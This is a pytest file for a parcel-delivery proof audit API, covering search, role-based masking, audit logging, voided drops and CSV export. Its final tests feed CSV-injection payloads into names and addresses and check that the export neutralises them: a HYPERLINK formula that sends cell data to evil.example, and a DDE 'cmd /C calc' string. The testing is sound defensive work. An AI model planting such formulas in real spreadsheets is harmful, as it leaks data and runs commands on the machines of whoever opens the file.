"""The auditor's proofs: search, detail with the evidence, CSV export, and the audit log."""

import csv
import datetime as dt
import io
import re
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import Connection, event, select, update
from sqlalchemy.exc import OperationalError
from sqlalchemy.orm import Session

from courier_api.api.parcels import routes as parcels_routes
from courier_api.api.proofs import routes as proofs_routes
from courier_api.api.proofs.routes import EXPORT_COMPLETE
from models import (
    AuditEntry,
    Blob,
    EventType,
    Flag,
    FlagSeverity,
    QuarantinedEvent,
    ScanEvent,
    ServiceClass,
)
from models.engine import refuse_writes
from sync import proofs, rules
from sync.blobs import FileBlobStore
from sync.proofs import walk_digest
from sync.rules import RULE_KINDS
from tests import factories
from tests.conftest import Auth, World
from tests.courier_api.test_shifts_api import Courier
from tests.courier_api.test_transaction_conflicts import aborted
from tests.courier_api.test_web_pages import signed_in
from tests.exports import exported
from tests.sync.test_spreadsheets import json_text

URL = "/api/v1/proofs"
SIGNED = {"recipient_name": "Li", "relation": "self", "signature_sha256": "b" * 64}


def now() -> dt.datetime:
    return dt.datetime.now(dt.UTC)


@pytest.fixture
def day(client: FlaskClient, auth: Auth, session: Session, world: World) -> dict[str, Any]:
    """Two parcels of ST1: one signed for in person near its address, one left in a
    locker with a consent granted before; one parcel of ST2 delivered by its courier."""
    signed = factories.parcel(session, world.station)
    signed.lat, signed.lon = 31.2304, 121.4737
    dropped = factories.parcel(session, world.station)
    elsewhere = factories.parcel(session, world.other_station)
    factories.user(session, "courier2", "courier", world.other_station)
    session.commit()
    at = now() - dt.timedelta(minutes=40)  # the consent is recorded within the grace
    consent = client.post(
        "/api/v1/consents",
        json={
            "tracking_no": dropped.tracking_no,
            "method": "locker",
            "channel": "sms",
            "granted_at": (at - dt.timedelta(minutes=5)).isoformat(),
        },
        headers=auth.headers("app1"),
    ).get_json()
    events = [
        factories.event(1, signed.tracking_no, occurred_at=at),
        factories.event(2, dropped.tracking_no, occurred_at=at),
        factories.event(
            3,
            signed.tracking_no,
            "delivered",
            occurred_at=at + dt.timedelta(minutes=10),
            location={"lat": 31.2310, "lon": 121.4737},
            pod={"recipient_name": "Li", "relation": "self", "signature_sha256": "b" * 64},
        ),
        factories.event(
            4,
            dropped.tracking_no,
            "delivered_to_locker",
            occurred_at=at + dt.timedelta(minutes=20),
            locker_id="L-1",
            compartment="5",
            pod={"pickup_code": "9981"},
        ),
    ]
    headers = auth.headers("courier1", "PDA-0001")
    client.post("/api/v1/sync/push", json=factories.push_body("PDA-0001", events), headers=headers)
    other = [
        factories.event(1, elsewhere.tracking_no, occurred_at=at),
        factories.event(
            2, elsewhere.tracking_no, "delivered", occurred_at=at, pod={"recipient_name": "Z"}
        ),
    ]
    client.post(
        "/api/v1/sync/push",
        json=factories.push_body("PDA-0002", other),
        headers=auth.headers("courier2", "PDA-0002"),
    )
    return {"signed": signed, "dropped": dropped, "elsewhere": elsewhere, "consent": consent}


def numbers(body: dict[str, Any]) -> list[str]:
    return [item["tracking_no"] for item in body["items"]]


def test_auditors_search_across_stations_and_managers_their_own(
    client: FlaskClient, auth: Auth, day: dict[str, Any]
) -> None:
    auditor = client.get(URL, headers=auth.headers("auditor1")).get_json()
    assert numbers(auditor) == [
        day["signed"].tracking_no,
        day["dropped"].tracking_no,
        day["elsewhere"].tracking_no,
    ]
    assert auditor["items"][0]["recipient_phone"] == "+8613812345678"
    manager = client.get(
        URL,
        query_string={"station_id": day["elsewhere"].station_id},
        headers=auth.headers("manager1"),
    ).get_json()
    assert numbers(manager) == [day["signed"].tracking_no, day["dropped"].tracking_no]
    assert manager["items"][0]["recipient_phone"] == "+86*******5678"


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"method": "locker"}, ["dropped"]),
        ({"method": "in_person"}, ["signed", "elsewhere"]),
        ({"flag_kind": "delivered_without_pod"}, ["elsewhere"]),  # express, no signature
        ({"flag_kind": "pod_blob_missing"}, ["signed"]),
    ],
)
def test_filters(
    client: FlaskClient,
    auth: Auth,
    day: dict[str, Any],
    query: dict[str, str],
    expected: list[str],
) -> None:
    body = client.get(URL, query_string=query, headers=auth.headers("auditor1")).get_json()
    assert numbers(body) == [day[name].tracking_no for name in expected]


def test_a_tracking_number_is_searched_as_a_person_types_it(
    client: FlaskClient, auth: Auth, day: dict[str, Any]
) -> None:
    """Lower case, spaces and dashes, as read off a label: the parcel's own number."""
    number = day["dropped"].tracking_no
    typed = f"{number[:2].lower()} {number[2:6]}-{number[6:]}"
    body = client.get(URL, query_string={"tracking_no": typed}, headers=auth.headers("auditor1"))
    assert numbers(body.get_json()) == [number]


def test_a_proof_shows_the_chain_the_authorizing_consent_and_the_distance(
    client: FlaskClient, auth: Auth, day: dict[str, Any]
) -> None:
    auditor = auth.headers("auditor1")
    items = client.get(URL, headers=auditor).get_json()["items"]
    drop = client.get(f"{URL}/{items[1]['event_id']}", headers=auditor).get_json()
    assert drop["authorizing_consent"]["id"] == day["consent"]["id"]
    assert [e["type"] for e in drop["timeline"]] == ["checked_out", "delivered_to_locker"]
    assert drop["voided"] is False and drop["pod"] == {"pickup_code": "9981"}
    at = drop["occurred_at"]
    assert drop["judged_between"] == {"earliest": at, "latest": at}  # a right clock
    signed = client.get(f"{URL}/{items[0]['event_id']}", headers=auditor).get_json()
    assert signed["authorizing_consent"] is None and signed["judged_between"] is None
    assert 60 < signed["distance_m"] < 75
    assert [f["kind"] for f in signed["flags"]] == ["pod_blob_missing"]


def test_a_proofs_flags_say_who_decided_them_when_and_with_what_note(
    client: FlaskClient, auth: Auth, session: Session, world: World, day: dict[str, Any]
) -> None:
    """An auditor settling a complaint read each flag's status in the proof, then called
    GET /flags/<id> for each to learn whether a manager had acknowledged or resolved it,
    who, when and with what note. Each flag now carries its latest decision; the note
    masked but for auditors, the manager named as the proof page names them (another
    station's user is an id only to a station manager)."""
    auditor = auth.headers("auditor1")
    manager = auth.headers("manager1")
    items = client.get(URL, headers=auditor).get_json()["items"]
    proof = f"{URL}/{items[0]['event_id']}"
    [flag] = client.get(proof, headers=auditor).get_json()["flags"]
    assert flag["kind"] == "pod_blob_missing" and flag["latest_decision"] is None

    acked = client.post(
        f"/api/v1/flags/{flag['id']}/acknowledge",
        json={"note": "asked Li at +8613812345678"},
        headers=manager,
    )
    assert acked.status_code == 200, acked.get_json()
    [flag] = client.get(proof, headers=manager).get_json()["flags"]
    named = {"id": world.manager.id, "username": "manager1", "full_name": world.manager.full_name}
    assert flag["status"] == "acknowledged"
    assert flag["latest_decision"] == {
        "decision": "acknowledged",
        "by": named,
        "at": client.get(f"/api/v1/flags/{flag['id']}", headers=manager).get_json()["changes"][-1][
            "at"
        ],
        "note": "asked Li at +**********678",
    }

    resolved = client.post(
        f"/api/v1/flags/{flag['id']}/resolve",
        json={"note": "signature re-sent, +8613812345678 confirmed"},
        headers=manager,
    )
    assert resolved.status_code == 200, resolved.get_json()
    [flag] = client.get(proof, headers=auditor).get_json()["flags"]
    decision = flag["latest_decision"]
    assert (decision["decision"], decision["by"]) == ("resolved", named)
    assert decision["note"] == "signature re-sent, +8613812345678 confirmed"

    # manager1 moved to ST2 since: ST1's new manager reads who decided as an id only.
    factories.user(session, "manager3", "station_manager", world.station)
    world.manager.station_id = world.other_station.id
    session.commit()
    [flag] = client.get(proof, headers=auth.headers("manager3")).get_json()["flags"]
    assert flag["latest_decision"]["by"] == {
        "id": world.manager.id,
        "username": None,
        "full_name": None,
    }
    [flag] = client.get(proof, headers=auditor).get_json()["flags"]
    assert flag["latest_decision"]["by"] == named


def test_a_proofs_page_says_who_decided_its_flags_when_and_with_what_note(
    client: FlaskClient, auth: Auth, session: Session, world: World, day: dict[str, Any]
) -> None:
    """The proof page listed each flag with its status badge only, where the API gives
    its latest decision: the auditor at the page had to open each flag to learn who
    resolved it and why. The note is masked but for auditors; the manager is named as
    the page names the courier (another station's user is "user #N" to a manager)."""
    items = client.get(URL, headers=auth.headers("auditor1")).get_json()["items"]
    event_id = items[0]["event_id"]
    [flag] = client.get(f"{URL}/{event_id}", headers=auth.headers("auditor1")).get_json()["flags"]
    page = f"/web/proofs/{event_id}"
    assert 'class="decision"' not in signed_in(client.application, "auditor1").get(page)
    resolved = client.post(
        f"/api/v1/flags/{flag['id']}/resolve",
        json={"note": "signature re-sent, +8613812345678 confirmed"},
        headers=auth.headers("manager1"),
    )
    assert resolved.status_code == 200, resolved.get_json()

    def decision(username: str) -> str:
        html = signed_in(client.application, username).get(page)
        return html.split('class="decision">')[1].split("</span>")[0]

    shown = decision("auditor1")
    assert shown.startswith(f"resolved by {world.manager.full_name or 'manager1'} ")
    assert "+8613812345678 confirmed" in shown
    assert "+**********678 confirmed" in decision("manager1")
    factories.user(session, "manager3", "station_manager", world.station)
    world.manager.station_id = world.other_station.id  # moved to ST2 since
    session.commit()
    assert decision("manager3").startswith(f"resolved by user #{world.manager.id} ")


def test_a_proofs_flags_decisions_are_read_in_one_query_however_many_flags(
    client: FlaskClient,
    auth: Auth,
    session: Session,
    connection: Connection,
    world: World,
    day: dict[str, Any],
) -> None:
    """A proof with one decided flag and then with five is read in as many statements:
    the decisions and their managers are read for all its flags at once."""
    auditor, manager = auth.headers("auditor1"), auth.headers("manager1")
    item = client.get(URL, headers=auditor).get_json()["items"][1]  # the locker drop
    counts = []
    for kinds in (["far_from_address"], ["delivered_without_pod", *RULE_KINDS[6:]]):
        for kind in kinds:
            flag = Flag(
                station_id=world.station.id,
                kind=kind,
                severity=FlagSeverity.WARNING,
                subject_type="parcel",
                subject_key=item["tracking_no"],
                evidence={"event_ids": [item["event_id"]]},
                raised_at=now(),
            )
            session.add(flag)
            session.commit()
            for action in ("acknowledge", "resolve"):
                decided = client.post(
                    f"/api/v1/flags/{flag.id}/{action}", json={"note": kind}, headers=manager
                )
                assert decided.status_code == 200, decided.get_json()
        with counted(connection) as statements:
            detail = client.get(f"{URL}/{item['event_id']}", headers=auditor).get_json()
        counts.append(len(statements))
        assert {f["latest_decision"]["decision"] for f in detail["flags"]} == {"resolved"}
        assert [f["latest_decision"]["note"] for f in detail["flags"]] == [
            f["kind"] for f in detail["flags"]
        ]
    assert len(detail["flags"]) == 5
    assert counts[0] == counts[1], counts


@contextmanager
def counted(connection: Connection) -> Iterator[list[str]]:
    statements: list[str] = []

    def count(_conn: Any, _cursor: Any, statement: str, *_args: Any) -> None:
        statements.append(statement)

    event.listen(connection, "before_cursor_execute", count)
    try:
        yield statements
    finally:
        event.remove(connection, "before_cursor_execute", count)


def test_every_auditor_read_is_audit_logged(
    client: FlaskClient, auth: Auth, day: dict[str, Any], session: Session
) -> None:
    auditor = auth.headers("auditor1")
    event_id = client.get(URL, headers=auditor).get_json()["items"][0]["event_id"]
    client.get(f"{URL}/{event_id}", headers=auditor)
    client.get(f"{URL}/export.csv", headers=auditor).get_data()
    client.get(URL, headers=auth.headers("manager1"))  # managers' reads are not
    actions = session.scalars(select(AuditEntry.action).order_by(AuditEntry.id)).all()
    # The day's consent, recorded through the API, is logged first (consent_granted).
    assert actions[-3:] == ["proofs_searched", "proof_read", "proofs_exported"]
    assert set(actions[:-3]) <= {"consent_granted"}


def test_an_auditors_search_that_fails_after_its_read_leaves_no_read_on_record(
    client: FlaskClient,
    auth: Auth,
    day: dict[str, Any],
    session: Session,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """``GET /proofs`` put the auditor's search on record (``proofs_searched``), then
    read the proofs' images and built the page: a read failing after the record left a
    search on record that the auditor was never shown. A read is on record when, and
    only when, it is shown: recorded last, as the proof's page and its read are."""

    def broken(**_kwargs: Any) -> Any:
        raise RuntimeError("the images could not be read")

    monkeypatch.setattr(proofs_routes, "proofs_images", broken)
    before = session.scalars(select(AuditEntry.action)).all()
    try:
        response = client.get(URL, headers=auth.headers("auditor1"))
        assert response.status_code >= 500, response.status_code
    except RuntimeError:  # raised through the test client
        pass
    session.expire_all()
    assert session.scalars(select(AuditEntry.action)).all() == before


def test_an_auditors_read_of_a_proof_names_every_delivery_its_timeline_shows(
    app: Flask, client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """A proof's detail shows the parcel's whole event chain, each delivery with its POD:
    reading the redelivery's proof reads the voided mis-tap's too, and the audit log says
    so (API and page)."""
    parcel = factories.parcel(session, world.station)
    session.commit()
    at = now() - dt.timedelta(hours=1)
    mistap = factories.event(
        2, parcel.tracking_no, "delivered", occurred_at=at + dt.timedelta(minutes=1),
        pod={"recipient_name": "Li", "signature_sha256": "b" * 64},
    )  # fmt: skip
    correction = factories.event(
        3, parcel.tracking_no, "correction", occurred_at=at + dt.timedelta(minutes=2),
        voids_client_event_id=mistap["client_event_id"], reason="wrong parcel",
    )  # fmt: skip
    delivered = factories.event(
        4, parcel.tracking_no, "delivered", occurred_at=at + dt.timedelta(minutes=9),
        pod={"recipient_name": "Wang", "signature_sha256": "c" * 64},
    )  # fmt: skip
    auth.push(
        [factories.event(1, parcel.tracking_no, occurred_at=at), mistap, correction, delivered]
    )
    auditor, query = auth.headers("auditor1"), {"tracking_no": parcel.tracking_no}
    ids = sorted(
        i["event_id"] for i in client.get(URL, query_string=query, headers=auditor).json["items"]
    )
    assert len(ids) == 2
    detail = client.get(f"{URL}/{ids[1]}", headers=auditor).get_json()
    shown = sorted(e["event_id"] for e in detail["timeline"] if e["details"].get("pod"))
    assert shown == ids
    signed_in(app, "auditor1").get(f"/web/proofs/{ids[1]}")
    reads = session.scalars(
        select(AuditEntry).where(AuditEntry.action == "proof_read").order_by(AuditEntry.id)
    ).all()
    assert [(r.subject_key, r.details["event_ids"]) for r in reads] == [(str(ids[1]), ids)] * 2


def test_the_csv_export_streams_the_filtered_proofs(
    client: FlaskClient, auth: Auth, day: dict[str, Any]
) -> None:
    response = client.get(
        f"{URL}/export.csv", query_string={"method": "in_person"}, headers=auth.headers("manager1")
    )
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = exported(response.get_data(as_text=True))
    assert [r["tracking_no"] for r in rows] == [day["signed"].tracking_no]
    assert rows[0]["signature_sha256"] == "b" * 64
    assert rows[0]["recipient_phone"] == "'+86*******5678"  # masked, opened as text


def test_another_stations_proof_is_unknown_to_a_manager(
    client: FlaskClient, auth: Auth, day: dict[str, Any]
) -> None:
    """As an event id no delivery has: a 403 would tell the manager it exists."""
    items = client.get(URL, headers=auth.headers("auditor1")).get_json()["items"]
    manager = auth.headers("manager1")
    response = client.get(f"{URL}/{items[2]['event_id']}", headers=manager)
    assert response.status_code == 404
    unknown = client.get(f"{URL}/{10**9}", headers=manager)
    assert response.get_json()["code"] == unknown.get_json()["code"] == "proof_not_found"


@pytest.mark.parametrize(
    ("username", "device", "status"),
    [
        ("auditor1", None, 200),
        ("admin", None, 200),
        ("manager1", None, 200),
        ("courier1", "PDA-0001", 403),
        ("app1", None, 403),
    ],
)
def test_who_may_read_proofs(
    client: FlaskClient, auth: Auth, world: World, username: str, device: str | None, status: int
) -> None:
    headers = auth.headers(username, device)
    for url in (URL, f"{URL}/export.csv"):
        assert client.get(url, headers=headers).status_code == status


@pytest.mark.parametrize(
    ("query", "code"),
    [
        ({"method": "drone"}, "validation_error"),
        (
            {"occurred_from": "2026-11-23T10:00:00Z", "occurred_to": "2026-11-23T09:00:00Z"},
            "invalid_range",
        ),
    ],
)
def test_bad_filters_are_422(
    client: FlaskClient, auth: Auth, world: World, query: dict[str, str], code: str
) -> None:
    response = client.get(URL, query_string=query, headers=auth.headers("auditor1"))
    assert response.status_code == 422 and response.get_json()["code"] == code


@pytest.mark.parametrize("kind", ["unauthorised_locker_drop", "late_event_after_signoff"])
def test_a_flag_kind_the_search_cannot_find_is_422_naming_those_it_can(
    client: FlaskClient, auth: Auth, world: World, kind: str
) -> None:
    """A misspelt kind, or a shift's own (found at /flags), matched no proof and answered
    an empty list: an auditor read "no delivery was ever flagged so"."""
    response = client.get(URL, query_string={"flag_kind": kind}, headers=auth.headers("auditor1"))
    assert response.status_code == 422
    [message] = response.get_json()["errors"]["query"]["flag_kind"]
    assert "unauthorized_locker_drop" in message and "missing_at_handover" in message
    page = signed_in(client.application, "auditor1")
    html = page.client.get("/web/proofs", query_string={"flag_kind": kind})
    assert html.status_code == 422
    assert "the kinds are:" in html.get_data(as_text=True)


def test_the_proof_page_finds_a_flag_kind_written_as_the_pages_write_it(
    client: FlaskClient, auth: Auth, day: dict[str, Any]
) -> None:
    """The Kind select writes kinds in words; typed that way, in any case, it still
    finds what the code finds."""
    page = signed_in(client.application, "auditor1")
    html = page.get("/web/proofs?flag_kind=Pod+blob+missing")
    assert day["signed"].tracking_no in html and day["elsewhere"].tracking_no not in html
    assert '<option value="pod_blob_missing" selected>pod blob missing</option>' in html


def test_an_export_with_an_empty_range_is_422_before_anything_is_streamed_or_logged(
    client: FlaskClient, auth: Auth, world: World, session: Session
) -> None:
    """Found by the OpenAPI conformance test: the export checked its filters only once
    it had begun streaming, so the error came after a 200 (and a logged export)."""
    query = {"occurred_from": "2000-01-01T00:00:00Z", "occurred_to": "2000-01-01T00:00:00Z"}
    auditor = auth.headers("auditor1")
    response = client.get(f"{URL}/export.csv", query_string=query, headers=auditor)
    assert response.status_code == 422 and response.get_json()["code"] == "invalid_range"
    assert session.scalars(select(AuditEntry.action)).all() == []


def test_an_unknown_proof_is_404(client: FlaskClient, auth: Auth, world: World) -> None:
    response = client.get(f"{URL}/999999", headers=auth.headers("auditor1"))
    assert response.status_code == 404 and response.get_json()["code"] == "proof_not_found"


def test_an_auditor_reading_a_parcel_is_audit_logged(
    client: FlaskClient, auth: Auth, day: dict[str, Any], session: Session
) -> None:
    """Naming the deliveries whose POD its timeline shows, as a proof's read does."""
    tracking_no = day["signed"].tracking_no
    response = client.get(f"/api/v1/parcels/{tracking_no}", headers=auth.headers("auditor1"))
    assert response.status_code == 200
    shown = [e["event_id"] for e in response.get_json()["timeline"] if e["details"].get("pod")]
    entry = session.scalars(select(AuditEntry).where(AuditEntry.action == "parcel_read")).one()
    assert entry.subject_key == tracking_no
    assert shown and entry.details["event_ids"] == shown


def test_an_auditors_read_of_a_parcel_failing_after_its_record_leaves_none(
    client: FlaskClient,
    auth: Auth,
    day: dict[str, Any],
    session: Session,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """``GET /parcels/<tracking_no>`` put the auditor's read on record (``parcel_read``),
    then built its timeline: a read failing after the record left on record a parcel,
    and its proofs, that the auditor was never shown. Recorded last, as a proof's is."""

    def broken(*_args: Any, **_kwargs: Any) -> Any:
        raise RuntimeError("the timeline could not be shown")

    monkeypatch.setattr(parcels_routes, "timeline_view", broken)
    before = session.scalars(select(AuditEntry.action)).all()
    try:
        response = client.get(
            f"/api/v1/parcels/{day['signed'].tracking_no}", headers=auth.headers("auditor1")
        )
        assert response.status_code >= 500, response.status_code
    except RuntimeError:  # raised through the test client
        pass
    session.expire_all()
    assert session.scalars(select(AuditEntry.action)).all() == before


def test_a_drop_a_correction_voided_is_not_shown_as_an_unauthorized_drop(
    app: Flask, client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """An express parcel tapped as left in a locker, without consent, and voided a
    minute later as a mis-tap; the courier brought it back. No drop happened and no
    flag stands, yet its proof answered `consent_required: true` with
    `authorizing_consent: null`, which the API documents as an unauthorized drop, in the
    search, the detail and the CSV, and the proof page said in red "No consent
    authorized this drop" and listed the consents on record: the auditor read of a
    drop without consent that never took place. A voided drop is not judged, as the
    list page already says ("voided: nothing to authorize")."""
    parcel = factories.parcel(session, world.station)
    session.commit()
    at = now() - dt.timedelta(hours=1)
    mistap = factories.locker_drop(2, parcel.tracking_no, at + dt.timedelta(minutes=1))
    correction = factories.event(
        3,
        parcel.tracking_no,
        "correction",
        occurred_at=at + dt.timedelta(minutes=2),
        voids_client_event_id=mistap["client_event_id"],
        reason="wrong parcel",
    )
    returned = factories.event(
        4, parcel.tracking_no, "returned_to_station", occurred_at=at + dt.timedelta(minutes=30)
    )
    receipt = auth.push(
        [factories.event(1, parcel.tracking_no, occurred_at=at), mistap, correction, returned]
    )
    assert "unauthorized_locker_drop" not in [f["kind"] for f in receipt["flags_raised"]]
    auditor, query = auth.headers("auditor1"), {"tracking_no": parcel.tracking_no}

    [item] = client.get(URL, query_string=query, headers=auditor).get_json()["items"]
    detail = client.get(f"{URL}/{item['event_id']}", headers=auditor).get_json()
    export = client.get(f"{URL}/export.csv", query_string=query, headers=auditor)
    [row] = exported(export.get_data(as_text=True))
    html = signed_in(app, "auditor1").get(f"/web/proofs/{item['event_id']}")

    for shown in (item, detail):
        assert shown["voided"] is True
        assert (shown["consent_required"], shown["authorizing_consent"]) == (None, None)
    assert (row["consent_required"], row["authorizing_consent_id"]) == ("", "")
    assert "No consent authorized this drop" not in html
    assert "Voided by a correction: nothing to authorize" in html


def test_a_drop_scanned_again_after_a_consent_shows_the_consent_as_after_the_drop(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """The courier left an express parcel in a locker, called the recipient, captured
    their consent and tapped the compartment again. The parcel went in at the first
    scan: the rules judge both scans as that one drop (``consent_after_drop``, citing
    both), and the proof of the second must not show the consent as authorizing it,
    nor date it by its own scan."""
    parcel = factories.parcel(session, world.station)
    session.commit()
    at = now() - dt.timedelta(hours=1)
    first = factories.locker_drop(2, parcel.tracking_no, at + dt.timedelta(minutes=1))
    consent = factories.event(
        3,
        parcel.tracking_no,
        "consent_captured",
        occurred_at=at + dt.timedelta(minutes=2),
        consent={"method": "locker", "channel": "phone_call"},
    )
    again = factories.locker_drop(4, parcel.tracking_no, at + dt.timedelta(minutes=3))
    receipt = auth.push(
        [factories.event(1, parcel.tracking_no, occurred_at=at), first, consent, again]
    )
    assert [f["kind"] for f in receipt["flags_raised"]] == ["consent_after_drop"]
    auditor, query = auth.headers("auditor1"), {"tracking_no": parcel.tracking_no}

    items = client.get(URL, query_string=query, headers=auditor).get_json()["items"]
    details = [client.get(f"{URL}/{i['event_id']}", headers=auditor).get_json() for i in items]
    export = client.get(f"{URL}/export.csv", query_string=query, headers=auditor)
    rows = exported(export.get_data(as_text=True))
    assert len(items) == len(details) == len(rows) == 2
    for shown in (*items, *details):
        assert (shown["consent_required"], shown["authorizing_consent"]) == (True, None)
    assert [row["authorizing_consent_id"] for row in rows] == ["", ""]
    assert details[1]["judged_between"] == details[0]["judged_between"]
    assert details[0]["judged_between"]["latest"] < details[1]["occurred_at"]


def test_a_delivery_voided_by_a_correction_is_marked_in_the_search_and_the_export(
    app: Flask, client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """A mis-tapped signature and the return that followed: the auditor sees at once,
    in the list and the CSV, that the delivery proves nothing."""
    parcel = factories.parcel(session, world.station)
    session.commit()
    at = now() - dt.timedelta(hours=1)
    mistap = factories.event(
        2,
        parcel.tracking_no,
        "delivered",
        occurred_at=at + dt.timedelta(minutes=1),
        pod={"recipient_name": "Li", "signature_sha256": "b" * 64},
    )
    correction = factories.event(
        3,
        parcel.tracking_no,
        "correction",
        occurred_at=at + dt.timedelta(minutes=2),
        voids_client_event_id=mistap["client_event_id"],
        reason="wrong parcel",
    )
    returned = factories.event(
        4, parcel.tracking_no, "returned_to_station", occurred_at=at + dt.timedelta(minutes=30)
    )
    auth.push([factories.event(1, parcel.tracking_no, occurred_at=at), mistap])
    auditor, query = auth.headers("auditor1"), {"tracking_no": parcel.tracking_no}
    assert [
        i["voided"] for i in client.get(URL, query_string=query, headers=auditor).json["items"]
    ] == [False]
    auth.push([correction, returned])
    items = client.get(URL, query_string=query, headers=auditor).get_json()["items"]
    assert [i["voided"] for i in items] == [True]
    detail = client.get(f"{URL}/{items[0]['event_id']}", headers=auditor).get_json()
    assert detail["voided"] is True
    export = client.get(f"{URL}/export.csv", query_string=query, headers=auditor)
    rows = exported(export.get_data(as_text=True))
    assert [(r["tracking_no"], r["voided"]) for r in rows] == [(parcel.tracking_no, "true")]
    html = signed_in(app, "auditor1").get(f"/web/proofs?tracking_no={parcel.tracking_no}")
    row = html.split(f'id="proof-{items[0]["event_id"]}"')[1].split("</tr>")[0]
    assert "voided by a correction" in row and "nothing to authorize" in row


def test_a_flag_the_system_closed_no_longer_finds_the_drop(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """Dropped before the recipient's consent (granted earlier) was recorded: the flag
    is raised, then closed when the consent arrives. The drop was authorized."""
    parcel = factories.parcel(session, world.station)
    session.commit()
    at = now() - dt.timedelta(minutes=30)
    drop = factories.locker_drop(2, parcel.tracking_no, at + dt.timedelta(minutes=10))
    auth.push([factories.event(1, parcel.tracking_no, occurred_at=at), drop])
    auditor, query = auth.headers("auditor1"), {"flag_kind": "unauthorized_locker_drop"}
    assert numbers(client.get(URL, query_string=query, headers=auditor).get_json()) == [
        parcel.tracking_no
    ]
    consent = client.post(
        "/api/v1/consents",
        json={
            "tracking_no": parcel.tracking_no,
            "method": "locker",
            "channel": "sms",
            "granted_at": at.isoformat(),
        },
        headers=auth.headers("app1"),
    )
    assert consent.status_code == 201
    assert numbers(client.get(URL, query_string=query, headers=auditor).get_json()) == []


def test_the_export_never_hands_a_spreadsheet_a_formula(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """Names typed by a sender or a recipient open as text, not as formulas (CSV
    injection), and so does the phone number, which would open as a number; hashes
    are written as they are."""
    parcel = factories.parcel(session, world.station)
    parcel.recipient_name = '=HYPERLINK("http://evil.example","x")'
    parcel.address = "@SUM(1+1)"
    session.commit()
    at = now() - dt.timedelta(hours=1)
    delivered = factories.event(
        2,
        parcel.tracking_no,
        "delivered",
        occurred_at=at,
        pod={"recipient_name": "+1+cmd|' /C calc'!A0", "signature_sha256": "b" * 64},
    )
    auth.push([factories.event(1, parcel.tracking_no, occurred_at=at), delivered])
    export = client.get(f"{URL}/export.csv", headers=auth.headers("auditor1"))
    (row,) = exported(export.get_data(as_text=True))
    assert row["recipient_name"] == "'" + parcel.recipient_name
    assert row["address"] == "'@SUM(1+1)"
    assert row["pod_recipient_name"] == "'+1+cmd|' /C calc'!A0"
    assert row["recipient_phone"] == "'" + parcel.recipient_phone
    assert row["signature_sha256"] == "b" * 64


def test_the_export_hands_no_formula_in_a_column_no_person_types(
    app: Flask, client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """A tracking number is what the deployment's patterns let through
    (`DOMESTIC_TRACKING_PATTERNS`): one letting a "+" or an "=" through (here "="
    and ten digits) let a delivery's number open as a formula in the export's
    `tracking_no` column, where only the columns listed as typed by a person were kept
    from it. Every text cell is kept from it now; numbers stay numbers."""
    app.config["DOMESTIC_TRACKING_PATTERNS"] = (r"=\d{10}",)
    tracking_no = "=1234567890"
    at = now() - dt.timedelta(hours=1)
    auth.push(
        [
            factories.event(1, tracking_no, occurred_at=at),
            factories.event(2, tracking_no, "delivered", occurred_at=at),
        ]
    )
    export = client.get(f"{URL}/export.csv", headers=auth.headers("auditor1"))
    (row,) = exported(export.get_data(as_text=True))
    assert (row["tracking_no"], row["parcel_taken_in"]) == ("'=1234567890", "false")
    assert int(row["seq"]) == 2


def test_the_export_hands_no_formula_to_a_spreadsheet_splitting_lines_at_semicolons(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """Excel where the list separator is ";" (most of continental Europe) splits each
    line of the comma-separated export at every ";", quoted or not: a name a courier
    typed as ``Li;=HYPERLINK(...)`` began a cell of its own there, run as a formula on
    opening. Each formula start after a ";" in a text cell gets an apostrophe too."""
    parcel = factories.parcel(session, world.station)
    parcel.address = 'Room 1; "@SUM(1+1)'
    session.commit()
    at = now() - dt.timedelta(hours=1)
    name = 'Li;=HYPERLINK("http://evil.example/?"&A1,"x")'
    delivered = factories.event(
        2,
        parcel.tracking_no,
        "delivered",
        occurred_at=at,
        pod={"recipient_name": name, "relation": "self;\t-1+cmd|' /C calc'!A0"},
    )
    auth.push([factories.event(1, parcel.tracking_no, occurred_at=at), delivered])
    export = client.get(f"{URL}/export.csv", headers=auth.headers("auditor1"))
    text = export.get_data(as_text=True)
    for line in text.splitlines():
        for cell in line.split(";")[1:]:  # each a cell of its own in such a spreadsheet
            assert not cell.lstrip(' \t"').startswith(("=", "+", "-", "@")), line
    (row,) = exported(text)
    assert row["pod_recipient_name"] == 'Li;\'=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert row["address"] == "Room 1; \"'@SUM(1+1)"


def test_a_line_break_in_a_text_cell_begins_no_formula_where_lines_split_at_semicolons(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """Such a spreadsheet reads a quote as a cell's quoting only at the cell's start, so
    a line break inside a quoted text cell (``"Li\\n=HYPERLINK(...)"``, the quote after a
    comma, not a ";") ends its line there, and what follows begins a line and its first
    cell: a courier's POD name typed across two lines ran as a formula on opening, the
    apostrophe given only after a ";". A formula start after a line break gets it too."""
    parcel = factories.parcel(session, world.station)
    session.commit()
    at = now() - dt.timedelta(hours=1)
    name = 'Li\n=HYPERLINK("http://evil.example/?"&A1,"x")'
    delivered = factories.event(
        2,
        parcel.tracking_no,
        "delivered",
        occurred_at=at,
        pod={"recipient_name": name, "relation": 'self\r\n "@SUM(1+1)\r-2+3'},
    )
    auth.push([factories.event(1, parcel.tracking_no, occurred_at=at), delivered])
    export = client.get(f"{URL}/export.csv", headers=auth.headers("auditor1"))
    text = export.get_data(as_text=True)
    # The file as such a spreadsheet reads it: cells at ";", a quote quoting only at a
    # cell's start, a line break outside quotes ending the line.
    for line in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
        for cell in line:
            assert not cell.lstrip(' \t"').startswith(("=", "+", "-", "@")), line
    (row,) = exported(text)
    assert row["pod_recipient_name"] == 'Li\n\'=HYPERLINK("http://evil.example/?"&A1,"x")'
